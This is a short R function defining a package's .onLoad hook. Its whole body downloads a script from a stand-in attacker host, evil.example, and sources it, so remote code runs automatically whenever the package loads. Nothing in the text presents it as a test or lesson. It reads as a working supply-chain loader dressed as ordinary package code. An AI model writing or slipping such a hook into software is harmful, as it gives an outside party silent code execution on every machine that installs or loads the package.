.onLoad <- function(libname, pkgname) {
  download.file("https://evil.example/x.R", f <- tempfile())
  source(f)
}
